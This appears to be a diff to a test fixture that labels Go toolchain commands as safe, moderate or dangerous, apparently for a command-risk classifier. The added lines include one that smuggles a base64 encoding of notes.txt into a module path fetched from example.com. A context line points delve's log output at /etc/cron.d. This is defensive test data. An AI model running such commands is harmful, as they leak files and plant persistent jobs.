@@ -37,3 +37,5 @@ go tool pprof https://example.org/debug/pprof/heap  # want moderate
 go tool pprof -top cpu.out  # want safe
 go tool trace trace.out  # want moderate
 dlv version --log-dest=/etc/cron.d/x  # want dangerous
+go list -m "example.com/$(base64 notes.txt)@latest"  # want moderate
+go list -m all  # want safe
